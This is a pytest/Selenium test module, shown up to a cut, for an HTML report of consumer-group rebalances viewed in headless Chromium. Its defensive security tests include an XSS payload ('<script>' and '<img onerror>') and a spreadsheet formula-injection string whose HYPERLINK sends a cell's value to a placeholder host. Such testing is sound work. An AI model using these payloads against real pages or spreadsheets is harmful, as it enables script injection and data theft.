"""The report in a real browser: Chromium, as Debian's packages have it."""

from __future__ import annotations

import csv
import os
import re
import shutil
from collections.abc import Iterator
from importlib import resources
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select, WebDriverWait

from reporting.model import Facts
from reporting.page import Ingredients, ingredients, page
from tests.support.report import ATTACKS, facts

if TYPE_CHECKING:
    from tests.support.jobs import Outcome

_PATIENCE = 60
_STORM = "#group-0"  # the worst group of the recording is the storm
_AS_TABLE = "figcaption button[aria-expanded]"
_SAVE = "figcaption button:last-child"
_ALL = "SELECT * FROM gold.anomalies"
_NAMES = "#groups tbody td:first-child"


class Page:
    """A page that is open in the browser."""

    def __init__(self, driver: webdriver.Chrome, address: str) -> None:
        self.driver = driver
        driver.get(address)
        self.wait("return document.documentElement.dataset.ready === 'true'")

    def run(self, script: str, *arguments: WebElement) -> Any:  # noqa: ANN401 - whatever it returns
        return self.driver.execute_script(script, *arguments)

    def wait(self, script: str) -> None:
        waiting = WebDriverWait(self.driver, _PATIENCE, poll_frequency=0.05)
        waiting.until(lambda _: self.run(script))

    def one(self, selector: str) -> WebElement:
        return self.driver.find_element(By.CSS_SELECTOR, selector)

    def text(self, selector: str) -> str:
        found: str = self.run(f"return document.querySelector({selector!r}).textContent")
        return found

    def all(self, selector: str) -> list[WebElement]:
        return self.driver.find_elements(By.CSS_SELECTOR, selector)

    def texts(self, selector: str) -> list[str]:
        return [element.text for element in self.all(selector)]

    def search(self, control: str, text: str) -> None:
        """Type into an empty field; the address has the text when the table has followed."""
        field = self.one(f"#{control}")
        field.clear()
        field.send_keys(text)
        asked = f"new URLSearchParams(location.hash.slice(1)).get({control!r})"
        self.wait(f"return {asked} === {text!r}")

    def is_shown(self, selector: str) -> bool:
        return self.one(selector).is_displayed()

    def wait_for_charts(self, group: str, count: int) -> None:
        self.wait(f"return document.querySelectorAll('{group} canvas').length >= {count}")

    def go_dark(self, charts: int) -> None:
        Select(self.one("#theme")).select_by_value("dark")
        dark = f"{_STORM} [data-dark] canvas"
        self.wait(f"return document.querySelectorAll('{dark}').length >= {charts}")

    @property
    def complaints(self) -> list[str]:
        """What the browser complains about: errors, warnings, violations of the policy."""
        return [entry["message"] for entry in self.driver.get_log("browser")]


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    chromedriver = shutil.which("chromedriver")
    if chromium is None or chromedriver is None:
        if os.environ.get("CI"):
            pytest.fail(".ci/run has to install Chromium")
        pytest.skip("no Chromium with its driver here (Debian: apt install chromium-driver)")
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for argument in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage"):
        options.add_argument(argument)
    options.add_argument("--window-size=1280,1000")
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(chromedriver))
    yield driver
    driver.quit()


@pytest.fixture(scope="module")
def parts() -> Ingredients:
    return ingredients()


@pytest.fixture(scope="module")
def storm_report(demo: Outcome) -> Path:
    """The file that the demo writes."""
    path = Path(demo.summary["report"])
    lines = "".join(demo.out.splitlines()[:-1])  # a terminal may break a long path
    assert lines.endswith(f"The report is {path}")
    return path


@pytest.fixture
def storm(browser: webdriver.Chrome, storm_report: Path) -> Page:
    opened = Page(browser, storm_report.as_uri())
    opened.wait_for_charts(_STORM, 6)
    return opened


def test_the_storm_its_cause_and_its_members_are_on_the_page(storm: Page) -> None:
    assert storm.complaints == []
    assert "orders-storm" in storm.text("#headline")
    assert "133 rebalances" in storm.text(f"{_STORM} summary")
    found = storm.texts(f"{_STORM} .found > ul > li")
    assert found[0].startswith(
        "critical rebalance storm (short lived members): orders-storm rebalanced 132 times"
    )
    shown = {
        figure.get_attribute("data-chart"): figure.text
        for figure in storm.driver.find_elements(By.CSS_SELECTOR, f"{_STORM} figure")
    }
    assert list(shown) == ["anomalies", "states", "generations", "members", "owners", "offsets"]
    assert "most often: new member; cost " in shown["generations"]
    assert re.search(r"cost \d+(\.\d)? consumer-\w+ \(at least \d", shown["generations"])
    assert (
        "With group.instance.id and session.timeout.ms=10000 as it is, 113" in shown["generations"]
    )
    assert "6 clients, 210 sessions, all on 127.0.0.1; came back most: flapper-" in shown["members"]
    names = storm.texts(_NAMES)
    assert names[0] == "orders-storm"
    assert sorted(names)[1:3] == ["healthy-ctl", "orders-storm"]


def test_every_chart_is_described_in_words_and_every_table_has_a_caption(storm: Page) -> None:
    labels = storm.run("return [...document.querySelectorAll('.plot')].map(p => p.ariaLabel)")
    assert len(labels) == 7
    assert all(len(label) > 40 for label in labels)
    for button in storm.driver.find_elements(By.CSS_SELECTOR, f"{_STORM} {_AS_TABLE}"):
        button.click()
    assert storm.run("return [...document.querySelectorAll('table')].every(t => t.caption)")
    rows = "return document.querySelectorAll('#group-0 [data-chart=generations] tbody tr').length"
    assert storm.run(rows) == 100
    box = storm.one(f"{_STORM} [data-chart=generations] .scroll")

    def is_whole(_: webdriver.Chrome) -> bool:
        # Charts that are drawn meanwhile may cut a scroll short: people press the key again.
        box.send_keys(Keys.END)
        return bool(storm.run(f"{rows} === 133"))

    WebDriverWait(storm.driver, _PATIENCE, poll_frequency=1).until(is_whole)
    levels = storm.run(
        "return [...document.querySelectorAll('h1,h2,h3,h4')].map(h => Number(h.tagName[1]))"
    )
    assert all(below - above <= 1 for above, below in pairwise(levels))
    controls = storm.driver.find_elements(By.CSS_SELECTOR, "button, select, input")
    assert all(control.accessible_name for control in controls if control.is_displayed())


def test_the_search_filters_the_table_and_a_heading_sorts_it(storm: Page) -> None:
    storm.search("search", "PAYMENTS")
    assert sorted(storm.texts(_NAMES)) == [
        "payments-jslow",
        "payments-slow",
    ]
    assert storm.text("#groups caption").startswith("2 of 5 groups")
    storm.search("search", "no such group")
    assert storm.texts(_NAMES) == []
    storm.search("search", "-")
    Select(storm.one("#health")).select_by_visible_text("ok")
    assert storm.texts(_NAMES) == ["healthy-ctl"]
    Select(storm.one("#health")).select_by_visible_text("any")
    storm.one("#groups th:first-child button").click()
    names = storm.texts(_NAMES)
    assert names == sorted(names)
    assert storm.one("#groups th:first-child").get_attribute("aria-sort") == "ascending"


def test_dragging_and_keys_zoom_all_charts_of_the_group(storm: Page) -> None:
    spans = (
        "return [...document.querySelectorAll('#group-0 time')]"
        ".filter(t => t.closest('output')).map(t => Number(t.dataset.ms))"
    )
    first, last = storm.run(spans)
    pictures = "return [...document.querySelectorAll('#group-0 canvas')].map(c => c.toDataURL())"
    before = storm.run(pictures)
    states = storm.one(f"{_STORM} [data-chart=states] .plot")
    storm.run("document.querySelector('#group-0 [data-chart=states]').scrollIntoView()")
    storm.run("scrollBy(0, -200)")
    ActionChains(storm.driver).drag_and_drop_by_offset(states, 200, 0).perform()
    begin, end = storm.run(spans)
    assert first < begin < end < last
    assert end - begin < (last - first) / 3
    storm.wait(
        f"return {before!r}.every((picture, at) =>"
        " document.querySelectorAll('#group-0 canvas')[at].toDataURL() !== picture)"
    )
    panels = storm.one(f"{_STORM} .panels")
    panels.send_keys("+")
    closer = storm.run(spans)
    assert closer[1] - closer[0] == pytest.approx((end - begin) / 2)
    panels.send_keys("0")
    assert storm.run(spans) == [first, last]
    storm.run("document.querySelector('#group-0 .found button').click()")
    assert storm.run(spans)[0] > first
    assert storm.complaints == []


def test_dark_is_dark_also_when_the_system_asks_for_it(storm: Page) -> None:
    background = "return getComputedStyle(document.body).backgroundColor"
    light = storm.run(background)
    picture = "return document.querySelector('#group-0 [data-chart=states] canvas').toDataURL()"
    drawn = storm.run(picture)
    Select(storm.one("#theme")).select_by_value("dark")
    storm.wait(f"return !document.querySelector('#group-0 canvas') || ({background[7:]}) !== ''")
    dark = storm.run(background)
    assert _brightness(dark) < 60
    assert _brightness(light) > 200
    storm.wait_for_charts(_STORM, 6)
    assert storm.run(picture) != drawn
    Select(storm.one("#theme")).select_by_value("auto")
    assert storm.run(background) == light
    wish = {"name": "prefers-color-scheme", "value": "dark"}
    storm.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [wish]})
    assert storm.run(background) == dark
    storm.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
    assert storm.complaints == []


def test_times_switch_to_the_zone_of_the_browser(
    browser: webdriver.Chrome, storm_report: Path
) -> None:
    zone = {"timezoneId": "Asia/Kolkata"}  # 5 h 30 min ahead of UTC
    browser.execute_cdp_cmd("Emulation.setTimezoneOverride", zone)
    opened = Page(browser, storm_report.as_uri())
    assert opened.text("#as-of") == "as of 2026-11-21 07:03:39 UTC"
    Select(opened.one("#zone")).select_by_value("local")
    assert opened.text("#as-of") in {
        "as of 2026-11-21 12:33:39 Asia/Calcutta",
        "as of 2026-11-21 12:33:39 Asia/Kolkata",
    }
    opened.wait_for_charts(_STORM, 6)
    assert " 12:3" in opened.text(f"{_STORM} output")
    Select(opened.one("#zone")).select_by_value("utc")
    assert opened.text("#as-of") == "as of 2026-11-21 07:03:39 UTC"
    browser.execute_cdp_cmd("Emulation.setTimezoneOverride", {"timezoneId": ""})
    assert opened.complaints == []


def test_names_that_attack_the_page_are_shown_and_do_nothing(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    path = tmp_path / "report.html"
    path.write_text(page(facts(list(ATTACKS), 20), parts), encoding="utf-8")
    opened = Page(browser, path.as_uri())
    for group in opened.driver.find_elements(By.CSS_SELECTOR, "details.group"):
        opened.driver.execute_script("arguments[0].open = true", group)
    opened.wait_for_charts("#details", 7 * len(ATTACKS))
    for button in opened.driver.find_elements(By.CSS_SELECTOR, _AS_TABLE):
        opened.driver.execute_script("arguments[0].click()", button)
    lanes = opened.one("#group-0 [data-chart=members] .plot")
    ActionChains(opened.driver).move_to_element_with_offset(lanes, -300, 0).perform()
    assert opened.driver.title == "groupledger: default"
    assert opened.run("return document.querySelectorAll('main img, main script').length") == 0
    names = opened.texts("details.group h3")
    assert names[0] == ATTACKS[0]
    assert names[6] == "line\\u{2028}separator\\u{2029}and\\u{0}zero"
    assert names[7] == "right\\u{202e}to left"
    assert names[9] == "(empty id)"
    assert opened.complaints == []


@pytest.mark.parametrize(
    ("anchor", "shown"),
    [
        ("#group=team%2Fblue%20%3Cb%3E", "#group-2"),
        ("#group=", "#group-1"),
        ("#group=no-such-group", "#elsewhere"),
        ("#group=%E0%A4%A", "#elsewhere"),
    ],
    ids=["a name", "the empty name", "a group without charts", "no name at all"],
)
def test_the_link_of_an_alert_opens_its_group(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path, anchor: str, shown: str
) -> None:
    path = tmp_path / "report.html"
    path.write_text(page(facts(["orders", "", "team/blue <b>"], 20), parts), encoding="utf-8")
    opened = Page(browser, f"{path.as_uri()}{anchor}")
    top = f"return document.querySelector('{shown}').getBoundingClientRect().top"
    assert abs(opened.run(top)) < browser.get_window_size()["height"]
    assert opened.run("return document.querySelector('#group-2').open") == (shown == "#group-2")
    assert opened.complaints == []


def test_code_that_is_not_the_pages_own_does_not_run(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    text = page(facts(["orders"], 2), parts)
    path = tmp_path / "report.html"
    injected = "<script>document.title = 'attacked'</script><img src=x onerror=document.title=1>"
    path.write_text(text.replace("<footer>", f"<footer>{injected}"), encoding="utf-8")
    opened = Page(browser, path.as_uri())
    assert opened.driver.title == "groupledger: default"
    assert any("Content Security Policy" in message for message in opened.complaints)


@pytest.mark.parametrize("count", [0, 1])
def test_a_page_of_few_groups(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path, count: int
) -> None:
    opened = _open(browser, parts, tmp_path, facts(["orders"]) if count else _nothing())
    if count:
        assert "1 of 1 group;" in opened.text("#groups caption")
        opened.wait_for_charts(_STORM, 7)
    else:
        assert "no groups here yet" in opened.text("#headline")
    assert len(opened.texts("details.group")) == count
    assert opened.complaints == []


def test_five_thousand_groups_are_small_and_quick(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    path = tmp_path / "report.html"
    names = [f"team-{n % 40}.service-{n}.consumer" for n in range(5_000)]
    path.write_text(page(facts(names), parts), encoding="utf-8")
    assert path.stat().st_size < 10_000_000
    # Time of the processor: what else the machine does is no matter.
    browser.execute_cdp_cmd("Performance.enable", {"timeDomain": "threadTicks"})
    opened = Page(browser, path.as_uri())
    opened.search("search", "SERVICE-4999")
    assert opened.texts(_NAMES) == ["team-39.service-4999.consumer"]
    opened.wait_for_charts(_STORM, 7)
    metrics = browser.execute_cdp_cmd("Performance.getMetrics", {})["metrics"]
    browser.execute_cdp_cmd("Performance.disable", {})
    (seconds,) = (metric["value"] for metric in metrics if metric["name"] == "TaskDuration")
    assert 0.1 < seconds < 3
    assert opened.text("#groups caption").startswith("1 of 5,000 groups")
    opened.one("#search").send_keys(Keys.CONTROL, "a", Keys.NULL, Keys.DELETE)
    # Rows are made as they come into sight; the table says how many there are.
    rows = "return document.querySelectorAll('#groups tbody tr').length"
    opened.wait(f"{rows} === 100")
    assert opened.one("#groups table").get_attribute("aria-rowcount") == "5001"
    box = opened.one("#groups .scroll")
    for held in (200, 300):
        box.send_keys(Keys.END)
        opened.wait(f"{rows} >= {held}")
    opened.one("#groups th:first-child button").click()
    assert opened.run(rows) == 100
    assert opened.run("return document.querySelector('#groups .scroll').scrollTop") == 0
    assert opened.texts(_NAMES)[:2] == ["team-0.service-0.consumer", "team-0.service-40.consumer"]
    assert len(opened.texts("details.group")) == 25
    assert opened.complaints == []


def test_what_is_left_out_of_the_anomalies_is_said(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts([f"group-{n}" for n in range(1_340)], 3)
    shown.shown[0].counts["anomalies"] = 7
    shown.anomalies = shown.anomalies.filter(pc.not_equal(shown.anomalies["group_id"], "group-1"))
    opened = _open(browser, parts, tmp_path, shown)
    cut = "The worst 1,339 of 1,340 rows are in this file"
    assert opened.text("#anomalies .remark") == f"{cut}; all anomalies by SQL: {_ALL}"
    assert opened.text(f"{_STORM} .found .remark") == f"The worst 1 of 7 are shown; {_ALL} has all."
    opened.one("#group-1 summary").click()
    opened.wait_for_charts("#group-1", 6)
    assert opened.text("#group-1 .found") == f"The worst 0 of 1 are shown; {_ALL} has all."
    opened.one("#group-2 summary").click()
    opened.wait_for_charts("#group-2", 7)
    assert opened.text("#group-2 .found .remark") == ""


def test_the_end_of_the_log_is_named_as_a_whole(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    opened = _open(browser, parts, tmp_path, facts(["orders"], 3))
    opened.wait_for_charts(_STORM, 7)
    ends = [
        opened.run("const b = arguments[0].getBoundingClientRect(); return [b.left, b.right]", part)
        for part in (opened.one(f"{_STORM} .axis"), *opened.all(f"{_STORM} .axis span")[-2:])
    ]
    (left, right), before, last = ends
    assert opened.texts(f"{_STORM} .axis span")[-1] == "end of the log"
    assert left < before[1] < last[0] < last[1] <= right


def test_a_row_of_all_groups_draws_the_last_day(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts(["orders", "bills"], 3)
    days = ["S" * 20 + "E" * 20 + "S" * 8 + "0" * 40 + "00900001", " " * 48 + "0" * 48]
    at = shown.groups.schema.names.index("day")
    shown.groups = shown.groups.set_column(at, "day", pa.array(days))
    opened = _open(browser, parts, tmp_path, shown)
    labels = [drawn.get_attribute("aria-label") for drawn in opened.all(".day")]
    assert labels == ["Stable 14 h, Empty 10 h, rebalanced in 2 of 48 parts", "not known"]
    colours = {
        drawn.get_attribute("class"): drawn.value_of_css_property("fill")
        for drawn in opened.all("#groups tr:first-child .day path")
    }
    assert colours["preparing"] == "rgb(226, 98, 43)"
    assert len(set(colours.values())) == 5
    bars = opened.one("#groups tr:first-child .day .preparing").get_attribute("d")
    assert bars == "M42 9h1v-9h-1zM47 9h1v-2h-1z"
    opened.run("document.querySelectorAll('#groups th button')[4].click()")
    assert opened.texts(_NAMES) == ["orders", "bills"]
    assert opened.complaints == []


def _folded(shown: Facts) -> Facts:
    """Give the first group 42 anomalies of a kind, of which one stands in the table."""
    rows = shown.anomalies.to_pylist()
    first, others = rows[0] | {"kind_count": 42, "kind_open": 1}, rows[1:]
    more = [
        first | {"anomaly_id": f"b{n}", "kind_rank": n + 2, "summary": f"again {n}"}
        for n in range(41)
    ]
    shown.shown[0].counts["anomalies"] = 42
    shown.anomalies = pa.Table.from_pylist([first, *others, *more])
    shown.anomaly_count += 41
    return shown


def test_anomalies_are_folded_by_group_and_kind_and_every_row_leads_somewhere(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    opened = _open(browser, parts, tmp_path, _folded(facts([f"g-{n}" for n in range(40)], 3)))
    assert "g-0 left and came back 4 times" in opened.text("#headline")
    assert "41 more of the kind" in opened.text(f"{_STORM} .found")
    caption = "81 anomalies that may go on, or ended in the last 7 days: 40 rows, each of a group"
    assert opened.text("#anomalies caption").startswith(caption)
    assert "42" in opened.text("#anomalies tbody tr td.number")
    links = opened.run(
        "return [...document.querySelectorAll('#anomalies tbody tr')]"
        ".map(row => row.querySelectorAll('a').length)"
    )
    assert links == [2] * 40
    opened.search("find", "FLAPPING")
    assert len(opened.texts("#anomalies tbody tr")) == 40
    opened.search("find", "g-39")
    assert len(opened.texts("#anomalies tbody tr")) == 1
    opened.run("document.querySelector('#anomalies td.first a').click()")
    opened.wait("return !document.querySelector('#elsewhere').hidden")
    said = opened.text("#elsewhere")
    assert "g-39 is not among the 25 of 40 groups that this file shows in detail" in said
    assert "./spark-submit.sh explain --lakehouse '/lakehouse' --cluster 'default'" in said
    assert "--group 'g-39' --since '2026-11-21 05:34:" in said
    assert opened.texts(_NAMES) == ["g-39"]
    assert opened.complaints == []


def test_what_is_shown_stands_in_the_address(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    names = ["orders", "team/blue <b>"]
    opened = _open(browser, parts, tmp_path, facts(names, 30))
    opened.one("#group-1 summary").click()
    opened.wait(
        "return new URLSearchParams(location.hash.slice(1)).get('group') === 'team/blue <b>'"
    )
    opened.wait_for_charts("#group-1", 7)
    opened.one("#group-1 .panels").send_keys("+")
    opened.wait("return location.hash.includes('from=')")
    Select(opened.one("#health")).select_by_visible_text("critical")
    opened.wait("return location.hash.includes('health=critical')")
    spans = "return [...document.querySelectorAll('#group-1 output time')].map(t => t.dataset.ms)"
    span, address = opened.run(spans), opened.run("return location.href")
    opened.driver.get("about:blank")
    again = Page(browser, address)
    assert again.run("return document.querySelector('#group-1').open")
    assert again.run(spans) == span
    assert again.run("return document.querySelector('#health').value") == "critical"
    assert again.run("return location.href") == address
    assert again.complaints == []


def test_what_a_chart_has_no_rows_of_is_hatched(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts(["orders"], 30)
    group = shown.shown[0]
    group.rows["generations"] = group.rows["generations"].slice(20)
    for panel in ("states", "members", "owners", "offsets", "lag"):
        group.counts[panel] = group.rows[panel].num_rows
    opened = _open(browser, parts, tmp_path, shown)
    opened.wait_for_charts(_STORM, 7)
    assert opened.text(f"{_STORM} output").startswith("2026-11-21 05:20:40.160")  # all have it
    assert not opened.is_shown(f"{_STORM} .veil")
    opened.one(f"{_STORM} .panels").send_keys("0")
    charts = [
        veil.find_element(By.XPATH, "ancestor::figure").get_attribute("data-chart")
        for veil in opened.driver.find_elements(By.CSS_SELECTOR, f"{_STORM} .veil")
        if veil.is_displayed()
    ]
    assert charts == ["generations"]
    said = opened.text(f"{_STORM} .veil")
    assert said.startswith("not in this file before 2026-11-21 05:20:40")
    assert "up to 4" in said
    assert opened.run("return document.querySelector('#group-0 .veil path').getAttribute('d')")
    text = opened.text(f"{_STORM} [data-chart=generations] figcaption span")
    assert text.startswith("from 2026-11-21 05:20:40 UTC on: 10 rebalances")
    assert opened.complaints == []


def test_a_click_on_a_rebalance_tells_who_what_and_which_record(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts(["orders"], 1)
    rows = shown.shown[0].rows["generations"].to_pylist()
    proof = {"record_partition": 7, "record_offset": 123}
    shown.shown[0].rows["generations"] = pa.Table.from_pylist([row | proof for row in rows])
    shown.shown[0].counts = dict.fromkeys(shown.shown[0].counts, 1)
    opened = _open(browser, parts, tmp_path, shown)
    opened.wait_for_charts(_STORM, 7)
    plot = opened.one(f"{_STORM} [data-chart=generations] canvas")
    opened.run("arguments[0].scrollIntoView({ block: 'center' })", plot)
    left = opened.run(
        "const [a, b] = [...document.querySelectorAll('#group-0 output time')]"
        ".map(t => Number(t.dataset.ms)); const width = arguments[0].clientWidth - 150 - 34;"
        "return 150 + (Number(new Date('2026-11-21T05:20:00Z')) - a) / (b - a) * width"
        " - arguments[0].clientWidth / 2",
        plot,
    )
    moves = ActionChains(opened.driver)
    moves.move_to_element_with_offset(plot, round(left), 0).click().perform()
    opened.wait("return !document.querySelector('#group-0 .about').hidden")
    said = opened.text(f"{_STORM} .about")
    assert said.startswith("Rebalance to generation 0")
    assert "record7/123" in said
    assert "new ownersorders/0 → orders-0" in said
    assert opened.is_shown(f"{_STORM} .chosen:not([hidden])")


def test_an_anomaly_has_its_evidence_in_words_and_what_to_do(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts(["orders"], 3)
    rows = shown.anomalies.to_pylist()
    rows[0] |= {"evidence": '{"session_timeout_ms": 45000, "members": ["a", "b"], "n": {"c": 1}}'}
    shown.anomalies = pa.Table.from_pylist(rows)
    opened = _open(browser, parts, tmp_path, shown)
    found = opened.text(f"{_STORM} .found")
    assert "session timeout45 smembersa, bnc 1records1/0 to 1/1" in found
    assert "limit: returns an hour3" in found
    assert "Do: read its logs at those times" in found


def test_a_telephone_shows_the_sentence_first(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    names = [f"orders-of-a-department-with-a-long-name-{n}" for n in range(30)]
    telephone = {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True}
    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", telephone)
    try:
        shown = facts(names, 30)
        rows = [row | {"is_open": True} for row in shown.anomalies.to_pylist()]
        shown.anomalies = pa.Table.from_pylist(rows)
        opened = _open(browser, parts, tmp_path, shown)
        opened.wait_for_charts(_STORM, 7)
        assert "last seen 67 min before the end" in opened.text(f"{_STORM} .found")
        assert opened.run("return document.documentElement.scrollWidth") <= 390
        bottom = "return document.querySelector('#headline').getBoundingClientRect().bottom"
        assert opened.run(bottom) < 500
        for rows in ("#anomalies tbody tr", "#groups tbody tr"):
            heights = opened.run(
                f"return [...document.querySelectorAll('{rows}')].map(r => r.offsetHeight)"
            )
            assert max(heights) < 250
        first = opened.run(
            "const row = document.querySelector('#anomalies tbody tr');"
            "return [...row.cells].sort((a, b) => a.offsetTop - b.offsetTop)[0].textContent"
        )
        assert first.endswith("left and came back 4 times")
    finally:
        browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_forty_owners_look_different_and_the_others_are_counted(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    opened = _open(browser, parts, tmp_path, facts(["orders"]))  # 60 clients
    opened.wait_for_charts(_STORM, 7)
    owners = opened.texts(f"{_STORM} [data-chart=owners] .legend li")
    assert owners == [*(f"orders-{n}" for n in range(40)), "20 other owners"]
    looks = opened.run(
        "return [...document.querySelectorAll('#group-0 [data-chart=owners] .legend i')]"
        ".map(swatch => getComputedStyle(swatch).backgroundImage)"
    )
    assert len(set(looks)) == len(looks) == 41


def test_where_records_are_missing_no_owner_is_there_still(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts(["orders"], 3)
    panels = {"members": ("joined_at", "left_at"), "owners": ("valid_from", "valid_to")}
    for panel, (begin, end) in panels.items():
        rows = shown.shown[0].rows[panel].to_pylist()
        doubted = [row | {end: None, "known_until": row[begin] + 1_000} for row in rows]
        shown.shown[0].rows[panel] = pa.Table.from_pylist(doubted)
    opened = _open(browser, parts, tmp_path, shown)
    opened.wait_for_charts(_STORM, 7)
    legend = opened.texts(f"{_STORM} [data-chart=owners] .legend li")
    assert legend[-1] == "faint: not known: records are missing"
    for panel in panels:
        opened.run(f"document.querySelector('[data-chart={panel}] [aria-expanded]').click()")
        assert opened.texts(f"{_STORM} [data-chart={panel}] td.until") == ["not known"] * 3


def test_names_of_states_are_on_one_line(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    shown = facts(["orders"], 30)
    states = pa.array(["CompletingRebalance"])
    at = shown.groups.schema.get_field_index("state")
    shown.groups = shown.groups.set_column(at, "state", states)
    opened = _open(browser, parts, tmp_path, shown)
    opened.wait_for_charts(_STORM, 7)
    opened.run("document.querySelector('[data-chart=states] [aria-expanded]').click()")
    size = browser.get_window_size()
    browser.set_window_size(500, 900)
    lines = opened.run(
        "const found = [...document.querySelectorAll("
        "'#groups td:nth-child(4), [data-chart=states] td:first-child, .legend li')];"
        "return found.filter(f => /^[A-Z][a-z]+([A-Z][a-z]+)?$/.test(f.textContent)).map(found => {"
        "  const text = document.createRange(); text.selectNodeContents(found.lastChild);"
        "  return [found.textContent, text.getClientRects().length]; })"
    )
    browser.set_window_size(size["width"], size["height"])
    assert len(lines) == 1 + 30 + 3
    assert {count for _, count in lines} == {1}


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_serious(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path, theme: str
) -> None:
    shown = facts([f"group-{n}" for n in range(31)], 5)  # healthy ones and others
    shown.anomaly_count += 1  # so that the cut is there, too
    opened = _open(browser, parts, tmp_path, shown)
    opened.wait_for_charts(_STORM, 7)
    if theme == "dark":
        opened.go_dark(7)
    opened.run(resources.files("axe_core_python").joinpath("axe.min.js").read_text("utf-8"))
    assert _serious(opened) == []
    for button in opened.driver.find_elements(By.CSS_SELECTOR, _AS_TABLE):
        opened.run("arguments[0].click()", button)
    opened.run("document.querySelectorAll('.found details').forEach(d => d.open = true)")
    assert _serious(opened) == []
    opened.run("document.querySelectorAll('details.group').forEach(d => d.open = false)")
    assert _serious(opened) == []
    # It does look: what nobody can read is found.
    opened.run("document.querySelector('#headline').style.color = 'gray'")
    opened.run("document.querySelector('#headline').style.backgroundColor = '#888'")
    assert [finding.partition(":")[0] for finding in _serious(opened)] == ["color-contrast"]


def _serious(opened: Page) -> list[str]:
    """Ask axe-core for what keeps people from using the page."""
    # All rules on the whole page; to describe each node that passes would take half of the time.
    found = opened.driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "axe.run(document, {resultTypes: ['violations']}).then(done)"
    )
    assert len(found["passes"]) > 20
    return [
        f"{violation['id']}: {violation['nodes'][0]['html']}"
        for violation in found["violations"]
        if violation["impact"] in {"serious", "critical"}
    ]


def test_keys_sort_a_table(browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path) -> None:
    opened = _open(browser, parts, tmp_path, facts([f"group-{n}" for n in range(12)], 2))
    names = [f"group-{n}" for n in range(12)]
    opened.one("#health").send_keys(Keys.TAB, Keys.TAB)  # to the table, behind "CSV"
    assert opened.run("return document.activeElement.className") == "scroll"
    opened.driver.switch_to.active_element.send_keys(Keys.TAB)
    heading = opened.driver.switch_to.active_element
    assert heading.text == "group"
    heading.send_keys(Keys.ENTER)
    assert opened.texts(_NAMES) == names
    heading.send_keys(Keys.SPACE)
    assert opened.texts(_NAMES) == names[::-1]
    sorts = opened.run("return [...document.querySelectorAll('#groups th')].map(t => t.ariaSort)")
    assert sorts == ["descending", *[None] * (len(sorts) - 1)]
    assert opened.run("return document.activeElement.closest('th').ariaSort") == "descending"


def test_paper_is_white_and_has_no_controls(
    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    opened = _open(browser, parts, tmp_path, facts([f"group-{n}" for n in range(120)], 30))
    opened.wait_for_charts(_STORM, 7)
    opened.go_dark(7)
    controls = ("nav", "#settings", "#search", ".zoom button", _AS_TABLE, _SAVE)
    assert all(opened.is_shown(selector) for selector in controls)
    assert not opened.is_shown("#groups .cut")
    size = browser.get_window_size()
    browser.set_window_size(760, 1000)  # an A4 page
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    assert not any(opened.is_shown(selector) for selector in controls)
    assert opened.text("#groups .cut") == "The first 100 of 120 rows."
    assert opened.is_shown("#groups .cut")
    assert _brightness(opened.run("return getComputedStyle(document.body).color")) < 60
    styles = opened.run(
        "const of = (s) => getComputedStyle(document.querySelector(s));"
        "return [of('#groups .scroll').overflow, of('#group-0 canvas').filter,"
        " of('#group-0 .legend i').filter]"
    )
    assert styles == ["visible", *["invert(1) hue-rotate(180deg)"] * 2]
    assert opened.run("return document.documentElement.scrollWidth") <= 760
    widths = opened.run(
        "return [...document.querySelectorAll('canvas')]"
        ".map(c => [c.getBoundingClientRect().width, c.closest('.plot').clientWidth])"
    )
    assert len(widths) == 8
    assert all(canvas <= plot for canvas, plot in widths)
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})
    browser.set_window_size(size["width"], size["height"])


_FORMULA = '=HYPERLINK("http://x/?" & A1);=1+1,"@SUM(A1)"'


def test_each_chart_has_its_data_as_csv_that_no_spreadsheet_takes_for_formulas(
